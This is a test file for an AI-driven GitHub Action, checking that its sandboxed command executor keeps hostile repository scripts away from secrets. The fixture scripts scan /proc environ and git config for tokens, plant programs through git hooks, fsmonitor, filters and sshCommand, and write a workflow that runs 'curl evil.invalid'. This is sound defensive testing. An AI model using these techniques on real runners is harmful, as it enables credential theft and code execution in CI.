@@ -1,0 +1,383 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, readdirSync, rmSync } from 'node:fs';
+import path from 'node:path';
+import { toolCall, type Reply } from '../fakes/scripted-model.js';
+import { issueCommentPayload } from '../fakes/payloads.js';
+import { apiKey, createWorld, git, owner, repo, token, type ActionRun, type World } from './harness.js';
+import { RUNNER_ACCOUNT_NAMES, runnerAccount, type RunnerAccount, type RunnerAccountKind } from './runner-accounts.js';
+
+/**
+ * The sealed executor, attacked as an exploit would: what an allowed command runs is code from the
+ * repository, so each scenario commits a hostile script and lets the executor run it through an
+ * allowed command, with default inputs otherwise, against the bundled action, as root and as a
+ * non-root account with passwordless sudo (as on GitHub-hosted runners), each with the workspace in
+ * a folder other accounts cannot enter. Every check is on the outcome: what the script could read,
+ * what ran in the host's context, what landed on origin, what reached any output.
+ */
+
+const canaries = {
+  'github token': token,
+  'api key': apiKey,
+  'runtime token': 'ghs_CANARYruntimeTOKEN0123456789abcdefABCD',
+  'id token': 'canary-actions-id-token-request-7f3e9a',
+  'GITHUB_ENV secret': 'canary-env-file-secret-2b8d41c',
+  'GITHUB_STATE secret': 'canary-state-file-secret-93ac0e',
+  'token as basic auth': Buffer.from(`x-access-token:${token}`).toString('base64'),
+};
+const runnerEnv = { ACTIONS_RUNTIME_TOKEN: canaries['runtime token'], ACTIONS_ID_TOKEN_REQUEST_TOKEN: canaries['id token'], GITHUB_TOKEN: token };
+const runnerFiles = { env: `DEPLOY_KEY=${canaries['GITHUB_ENV secret']}\n`, state: `saved=${canaries['GITHUB_STATE secret']}\n` };
+const planted = 'PLANTED-42';
+const bot = 'github-actions[bot]';
+
+let world: World | undefined;
+afterEach(async () => {
+  await world?.close();
+  world = undefined;
+});
+
+const reverse = (text: string) => [...text].reverse().join('');
+
+/**
+ * A test script that searches everything a command might reach for the canaries, and says only
+ * whether it found one (and where), never the value. The canaries are stored reversed, so the
+ * script itself (committed, shown to the model) holds none of them.
+ */
+function huntScript(w: World): string {
+  const runnerFilePaths = [1, 2, 3, 4].flatMap((n) => ['env', 'state', 'output', 'summary.md'].map((f) => path.join(w.dir, `run-${n}`, f)));
+  return `import { readFileSync, readdirSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+const wanted = ${JSON.stringify(Object.entries(canaries).map(([label, value]) => [label, reverse(value)]))}.map(([label, value]) => [label, [...value].reverse().join('')]);
+const found = new Set();
+const opened = { environ: 0, cmdline: 0, files: 0 };
+const look = (where, text) => { for (const [label, value] of wanted) if (text.includes(value)) found.add(label + ' in ' + where); };
+for (const pid of readdirSync('/proc').filter((e) => /^\\d+$/.test(e))) {
+  for (const part of ['environ', 'cmdline']) {
+    try { look('/proc/' + pid + '/' + part, readFileSync('/proc/' + pid + '/' + part, 'latin1')); opened[part] += 1; } catch {}
+  }
+}
+look('its own environment', JSON.stringify(process.env));
+for (const file of ['.git/config', ${JSON.stringify(path.join(w.workspace, '.git/config'))}, ...${JSON.stringify(runnerFilePaths)}]) {
+  try { look(file, readFileSync(file, 'latin1')); opened.files += 1; } catch {}
+}
+try {
+  look('git config --list', execFileSync('git', ['config', '--list', '--show-origin'], { encoding: 'latin1', stdio: ['ignore', 'pipe', 'pipe'] }));
+} catch (error) {
+  look('git config --list', String(error.stdout ?? '') + String(error.stderr ?? ''));
+}
+console.log('HUNT opened ' + opened.environ + ' environ, ' + opened.cmdline + ' cmdline, ' + opened.files + ' files');
+console.log(found.size === 0 ? 'HUNT FOUND NOTHING' : 'HUNT FOUND: ' + [...found].join('; '));
+`;
+}
+
+/** The git mechanisms a command can plant for the host's git to run, each a scenario of its own. */
+const mechanisms = ['core.fsmonitor', 'a clean filter with .gitattributes', 'core.hooksPath', 'core.sshCommand', 'include.path', 'a replaced .git directory'] as const;
+type Mechanism = (typeof mechanisms)[number];
+
+/**
+ * A script that plants `mechanism` everywhere a command can write git configuration: its HOME's
+ * .gitconfig and XDG config, a .git of its own in the work tree (the replaced .git), and it tries
+ * the checkout's real .git. The planted program prints "PLANTED-" and 6*7 (computed, so this source
+ * never holds the words it prints) and leaves a marker in a folder only the action's account can
+ * write: a marker there means it ran in the host's context.
+ */
+function plantScript(w: World, mechanism: Mechanism, markers: string, stash: string): string {
+  return `import { appendFileSync, chmodSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import path from 'node:path';
+const mechanism = ${JSON.stringify(mechanism)};
+const stash = ${JSON.stringify(stash)};
+const markers = ${JSON.stringify(markers)};
+const done = [];
+const refused = [];
+const attempt = (what, act) => { try { act(); done.push(what); } catch (error) { refused.push(what + ' (' + (error.code ?? error.status ?? 'error') + ')'); } };
+mkdirSync(stash, { recursive: true });
+chmodSync(stash, 0o755);
+const evil = path.join(stash, 'evil.sh');
+const tail = mechanism.includes('filter') ? 'exec cat' : 'exit 0';
+writeFileSync(evil, '#!/bin/sh\\necho "PLANTED-$((6*7))-$(id -u)"\\necho "PLANTED-$((6*7))-$(id -u)" >&2\\nid -u > ' + markers + '/marker-$$ 2>/dev/null\\n' + tail + '\\n', { mode: 0o755 });
+const hooks = path.join(stash, 'hooks');
+mkdirSync(hooks, { recursive: true });
+for (const hook of ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'post-checkout', 'reference-transaction', 'post-index-change', 'pre-auto-gc', 'fsmonitor-watchman']) {
+  writeFileSync(path.join(hooks, hook), '#!/bin/sh\\nexec ' + evil + ' "$@"\\n', { mode: 0o755 });
+}
+chmodSync(hooks, 0o755);
+const origin = ${JSON.stringify(w.origin)};
+const sections = {
+  'core.fsmonitor': '[core]\\n\\tfsmonitor = ' + evil + '\\n',
+  'a clean filter with .gitattributes': '[filter "evil"]\\n\\tclean = ' + evil + '\\n\\tsmudge = ' + evil + '\\n[diff "evil"]\\n\\ttextconv = ' + evil + '\\n',
+  'core.hooksPath': '[core]\\n\\thooksPath = ' + hooks + '\\n',
+  'core.sshCommand': '[core]\\n\\tsshCommand = ' + evil + '\\n[url "ssh://git@evil.invalid/x.git"]\\n\\tinsteadOf = ' + origin + '\\n\\tpushInsteadOf = ' + origin + '\\n',
+  'include.path': '[include]\\n\\tpath = ' + path.join(stash, 'evil.cfg') + '\\n[includeIf "gitdir:/"]\\n\\tpath = ' + path.join(stash, 'evil.cfg') + '\\n',
+};
+const everything = Object.values(sections).join('');
+writeFileSync(path.join(stash, 'evil.cfg'), '[core]\\n\\tfsmonitor = ' + evil + '\\n\\thooksPath = ' + hooks + '\\n[filter "evil"]\\n\\tclean = ' + evil + '\\n');
+const config = mechanism === 'a replaced .git directory' ? everything : sections[mechanism];
+if (mechanism.includes('filter') || mechanism.includes('replaced')) attempt('.gitattributes', () => writeFileSync('.gitattributes', '* filter=evil diff=evil\\n'));
+attempt('HOME .gitconfig', () => appendFileSync(path.join(process.env.HOME, '.gitconfig'), config));
+attempt('XDG git config', () => { mkdirSync(path.join(process.env.HOME, '.config/git'), { recursive: true }); appendFileSync(path.join(process.env.HOME, '.config/git/config'), config); });
+attempt('a .git of its own', () => {
+  rmSync('.git', { recursive: true, force: true });
+  execFileSync('git', ['init', '--quiet', '.'], { stdio: 'ignore' });
+  appendFileSync('.git/config', config);
+  for (const hook of ['pre-commit', 'post-commit', 'pre-push', 'reference-transaction']) writeFileSync('.git/hooks/' + hook, '#!/bin/sh\\nexec ' + evil + '\\n', { mode: 0o755 });
+});
+attempt('the checkout config', () => appendFileSync(${JSON.stringify(path.join(w.workspace, '.git/config'))}, config));
+attempt('the checkout hooks', () => writeFileSync(${JSON.stringify(path.join(w.workspace, '.git/hooks/pre-commit'))}, '#!/bin/sh\\nexec ' + evil + '\\n', { mode: 0o755 }));
+console.log('PLANT ' + mechanism + ': planted in ' + done.join(', ') + '; refused: ' + refused.join(', '));
+`;
+}
+
+/** What a hostile pull request would commit: the scripts, allowed as ordinary npm scripts. */
+function hostileRepository(w: World, extra: Record<string, string>): void {
+  w.pushToOrigin(
+    'main',
+    {
+      'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', type: 'module', scripts: { test: 'node scripts/hunt.mjs' } }, null, 2) + '\n',
+      'scripts/hunt.mjs': huntScript(w),
+      ...extra,
+    },
+    'Add the project scripts',
+  );
+}
+
+interface Runner {
+  title: string;
+  kind?: RunnerAccountKind;
+}
+
+const runners: Runner[] = [
+  { title: 'as root' },
+  { title: `as ${RUNNER_ACCOUNT_NAMES.sudo}, a non-root account with passwordless sudo`, kind: 'sudo' },
+];
+
+/** The account the action runs as, or a reason to skip (never under CI, where it throws). */
+function accountFor(kind: RunnerAccountKind | undefined): { runAs?: RunnerAccount; skip?: string } {
+  if (kind === undefined) return process.getuid?.() === 0 ? {} : { skip: 'the test process is not root' };
+  const prepared = runnerAccount(kind);
+  return prepared.skip !== undefined ? { skip: prepared.skip } : { runAs: prepared.account };
+}
+
+function comment(w: World, issue: number, body: string) {
+  const issueData = w.gh.issue(issue);
+  if (!issueData) throw new Error(`no issue ${issue}`);
+  const created = w.gh.addComment(issue, { login: 'mona', body });
+  return { name: 'issue_comment', payload: issueCommentPayload({ owner, repo, issue: issueData, comment: created }) };
+}
+
+/** /plan then /approve, each in a fresh checkout that (as actions/checkout leaves it by default) holds the token. */
+async function planAndApprove(w: World, inputs: Record<string, string>): Promise<{ planned: ActionRun; approved: ActionRun; issue: number; planComment: string }> {
+  w.gh.setPermission('mona', 'maintain');
+  const issue = w.gh.addIssue({ title: 'Keep the tests green', body: 'Run the tests and fix what fails.', login: 'outsider' }).number;
+  const persist = () => {
+    w.freshCheckout();
+    git(w.workspace, 'config', '--local', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${canaries['token as basic auth']}`);
+    if (w.runAs) execFileSync('chown', ['-R', `${w.runAs.uid}:${w.runAs.gid}`, w.workspace]);
+  };
+  persist();
+  const planned = await w.runAction(comment(w, issue, '/plan keep the tests green'), inputs, runnerEnv, { runnerFiles });
+  // The plan comment as the approver saw it, before the run marks it executing.
+  const planComment = w.gh.comments(issue).filter((c) => c.user?.login === bot).at(-1)?.body ?? '';
+  persist();
+  const approved = await w.runAction(comment(w, issue, '/approve'), inputs, runnerEnv, { runnerFiles });
+  return { planned, approved, issue, planComment };
+}
+
+/** Everything that left the action or landed: GitHub requests, model requests, logs, summaries, outputs, every object on origin. */
+function everythingSeen(w: World, runs: ActionRun[]): string {
+  return [
+    JSON.stringify(w.gh.requests),
+    JSON.stringify(w.model.requests.map((r) => r.body)),
+    ...runs.flatMap((r) => [r.stdout.replace(/^::add-mask::.*$/gm, ''), r.stderr, r.summary, JSON.stringify(r.outputs)]),
+    git(w.origin, 'log', '--all', '-p', '--format=%H%n%B'),
+  ].join('\n');
+}
+
+function expectNoSecret(text: string): void {
+  for (const [label, value] of Object.entries(canaries)) {
+    const at = text.indexOf(value);
+    expect(at, `the ${label} leaked here: ${text.slice(Math.max(0, at - 200), at)}<SECRET>`).toBe(-1);
+  }
+}
+
+const toolResults = (w: World, model: string) =>
+  (w.model.requests.filter((r) => r.model === model).at(-1)?.messages ?? []).filter((m) => m.role === 'tool').map((m) => String(m.content));
+
+const plan = { steps: [{ title: 'Run the tests', files: ['package.json'], verify: 'npm test' }] };
+const planner = (directive: string): Reply[] => [
+  toolCall('update_context', { plan, directive }),
+  // The summary after the run: the planner's read tools use the host's git once more.
+  toolCall('search', { pattern: 'test' }),
+  toolCall('update_context', { summary: 'Ran it.' }),
+];
+
+/** A folder only the action's account may write: a marker in it means a planted program ran as the host. */
+function markerFolder(w: World): string {
+  const markers = path.join(w.dir, 'markers');
+  mkdirSync(markers, { mode: 0o700 });
+  if (w.runAs) execFileSync('chown', [`${w.runAs.uid}:${w.runAs.gid}`, markers]);
+  return markers;
+}
+
+for (const runner of runners) {
+  const { runAs, skip } = accountFor(runner.kind);
+  describe.skipIf(skip !== undefined)(`the sealed executor ${runner.title}${skip ? ` (skipped: ${skip})` : ''}`, () => {
+    it('a repository test script run as `npm test` finds no secret in any process, file or config it can open', async () => {
+      const w = (world = await createWorld(
+        {
+          planner: planner('Run npm test and report what it prints.'),
+          executor: [toolCall('run_command', { command: 'npm test' }), toolCall('update_context', { result: 'Ran the tests.', outcome: 'done' })],
+        },
+        undefined,
+        { runAs },
+      ));
+      hostileRepository(w, {});
+      const { planned, approved } = await planAndApprove(w, { 'allowed-commands': 'npm test' });
+      expect(approved.outputs.outcome, approved.stdout).toBe('done');
+      const [hunt = ''] = toolResults(w, 'executor');
+      expect(hunt).toContain('exit code: 0');
+      // It really looked: its own process, at least, and the rest of the process table.
+      expect(hunt).toMatch(/HUNT opened [1-9]\d* environ, [1-9]\d* cmdline/);
+      expect(hunt).toContain('HUNT FOUND NOTHING');
+      expectNoSecret(everythingSeen(w, [planned, approved]));
+    });
+
+    for (const mechanism of mechanisms) {
+      it(`never runs a program planted through ${mechanism} in the host's context`, async () => {
+        const stash = `/tmp/pg-plant-${process.pid}-${mechanisms.indexOf(mechanism)}-${runner.kind ?? 'root'}`;
+        rmSync(stash, { recursive: true, force: true });
+        const w = (world = await createWorld(
+          {
+            planner: planner('Run the setup script, then write NOTES.md.'),
+            executor: [
+              toolCall('run_command', { command: 'node scripts/plant.mjs' }),
+              // The read tools run the host's git in the work tree the script just changed.
+              toolCall('list_files', {}),
+              toolCall('search', { pattern: 'greet' }),
+              toolCall('write_file', { path: 'NOTES.md', content: 'notes\n' }),
+              toolCall('update_context', { result: 'Set up and wrote notes.', outcome: 'done' }),
+            ],
+          },
+          undefined,
+          { runAs },
+        ));
+        const markers = markerFolder(w);
+        hostileRepository(w, { 'scripts/plant.mjs': plantScript(w, mechanism, markers, stash) });
+        try {
+          const { planned, approved } = await planAndApprove(w, { 'allowed-commands': 'node scripts/plant.mjs' });
+          expect(approved.outputs.outcome, approved.stdout).toBe('done');
+          const [plant = ''] = toolResults(w, 'executor');
+          // The plant took where a command can write, and not in the checkout's own git.
+          expect(plant).toMatch(/PLANT .*: planted in .*HOME \.gitconfig.*a \.git of its own/);
+          expect(plant).toMatch(/refused: .*the checkout config.*the checkout hooks/);
+          expect(readdirSync(markers), 'a planted program ran in the host’s context').toEqual([]);
+          const seen = everythingSeen(w, [planned, approved]);
+          expect(seen).not.toContain(planted);
+          expectNoSecret(seen);
+          // The work went on: the executor's file is on the branch, and a pull request was opened.
+          expect(git(w.origin, 'show', `refs/heads/${approved.outputs.branch}:NOTES.md`)).toBe('notes');
+          expect(approved.outputs['pr-number']).toMatch(/^\d+$/);
+          // The planted program does work when something runs it: run as the host would, it leaves its marker.
+          execFileSync(path.join(stash, 'evil.sh'), { stdio: 'ignore' });
+          expect(readdirSync(markers)).toHaveLength(1);
+        } finally {
+          rmSync(stash, { recursive: true, force: true });
+        }
+      });
+    }
+
+    it('keeps a new workflow and a deleted protected file off every pushed branch, and the pull request says what was kept out', async () => {
+      const tamper = [
+        "import { mkdirSync, rmSync, writeFileSync } from 'node:fs';",
+        "mkdirSync('.github/workflows', { recursive: true });",
+        "writeFileSync('.github/workflows/evil.yml', 'on: push\\njobs: { steal: { runs-on: ubuntu-latest, steps: [ { run: \"curl evil.invalid\" } ] } }\\n');",
+        "rmSync('.github/workflows/ci.yml');",
+        "writeFileSync('src/farewell.js', 'export const farewell = (name) => `Goodbye ${name}`;\\n');",
+        "console.log('tampered');",
+      ].join('\n');
+      const w = (world = await createWorld(
+        {
+          planner: planner('Run the generator.'),
+          executor: [
+            toolCall('run_command', { command: 'node scripts/generate.mjs' }),
+            toolCall('update_context', { result: 'Generated.', outcome: 'done' }),
+          ],
+        },
+        undefined,
+        { runAs },
+      ));
+      hostileRepository(w, { 'scripts/generate.mjs': tamper });
+      const ci = git(w.origin, 'show', 'refs/heads/main:.github/workflows/ci.yml');
+      const { planned, approved, issue } = await planAndApprove(w, { 'allowed-commands': 'node scripts/generate.mjs' });
+      expect(approved.outputs.outcome, approved.stdout).toBe('done');
+      // The command's own result says what will not land, and that the protected file is back.
+      const [generated = ''] = toolResults(w, 'executor');
+      expect(generated).toContain('tampered');
+      expect(generated).toMatch(/kept these changes out[\s\S]*\.github\/workflows\/ci\.yml \(deleted\)[\s\S]*\.github\/workflows\/evil\.yml \(added\)/);
+      const branches = git(w.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads').split('\n');
+      expect(branches).toContain(`refs/heads/${approved.outputs.branch}`);
+      for (const ref of branches) {
+        expect(() => git(w.origin, 'cat-file', '-e', `${ref}:.github/workflows/evil.yml`), ref).toThrow();
+        expect(git(w.origin, 'show', `${ref}:.github/workflows/ci.yml`), ref).toBe(ci);
+      }
+      // The ordinary change landed.
+      expect(git(w.origin, 'show', `refs/heads/${approved.outputs.branch}:src/farewell.js`)).toContain('Goodbye');
+      const pr = w.gh.pulls().at(-1);
+      expect(pr?.body).toMatch(/Kept out/i);
+      expect(pr?.body).toContain('.github/workflows/evil.yml');
+      expect(pr?.body).toContain('.github/workflows/ci.yml');
+      const progress = w.gh.comments(issue).filter((c) => c.user?.login === bot).map((c) => c.body ?? '').find((b) => b.includes('evil.yml'));
+      expect(progress, 'the progress comment lists what was kept out').toBeDefined();
+      expectNoSecret(everythingSeen(w, [planned, approved]));
+    });
+  });
+}
+
+describe('a runner where no account switch is possible (not root, no sudo)', () => {
+  const { runAs, skip } = accountFor('nosudo');
+
+  it.skipIf(skip !== undefined)(`refuses commands with the cause, and says so in the plan comment before approval${skip ? ` (skipped: ${skip})` : ''}`, async () => {
+    const w = (world = await createWorld(
+      {
+        planner: planner('Run npm test.'),
+        executor: [toolCall('run_command', { command: 'npm test' }), toolCall('update_context', { result: 'Could not run the tests.', outcome: 'done' })],
+      },
+      undefined,
+      { runAs },
+    ));
+    hostileRepository(w, {});
+    const { planned, approved, planComment } = await planAndApprove(w, { 'allowed-commands': 'npm test' });
+    expect(planned.outputs.outcome, planned.stdout).toBe('planned');
+    expect(planComment).toContain('/approve');
+    expect(planComment).toMatch(/commands cannot run on this runner: the action does not run as root and cannot use passwordless sudo/);
+    expect(planComment).toContain('command-isolation: none');
+    expect(approved.outputs.outcome, approved.stdout).toBe('done');
+    const [refusal = ''] = toolResults(w, 'executor');
+    expect(refusal).toMatch(/^Error: Commands cannot run here: the action does not run as root and cannot use passwordless sudo/);
+    expect(refusal).toContain('Nothing was run');
+    expect(refusal).toContain('command-isolation: none');
+    expect(refusal).not.toContain('HUNT');
+    expectNoSecret(everythingSeen(w, [planned, approved]));
+  });
+
+  it.skipIf(skip !== undefined)(`runs commands as the action's own user with command-isolation: none, where the hunt finds the secrets${skip ? ` (skipped: ${skip})` : ''}`, async () => {
+    const w = (world = await createWorld(
+      {
+        planner: planner('Run npm test.'),
+        executor: [toolCall('run_command', { command: 'npm test' }), toolCall('update_context', { result: 'Ran the tests.', outcome: 'done' })],
+      },
+      undefined,
+      { runAs },
+    ));
+    hostileRepository(w, {});
+    const { approved, planComment } = await planAndApprove(w, { 'allowed-commands': 'npm test', 'command-isolation': 'none' });
+    expect(approved.outputs.outcome, approved.stdout).toBe('done');
+    expect(planComment).toContain('/approve');
+    expect(planComment).not.toMatch(/commands cannot run/);
+    const [hunt = ''] = toolResults(w, 'executor');
+    expect(hunt).toContain('exit code: 0');
+    // The opt-out gives isolation up, and the same script proves it: the action's environment is in reach.
+    expect(hunt).toMatch(/HUNT FOUND: .*github token in \/proc\/\d+\/environ/);
+    expect(existsSync(w.dir)).toBe(true);
+  });
+});
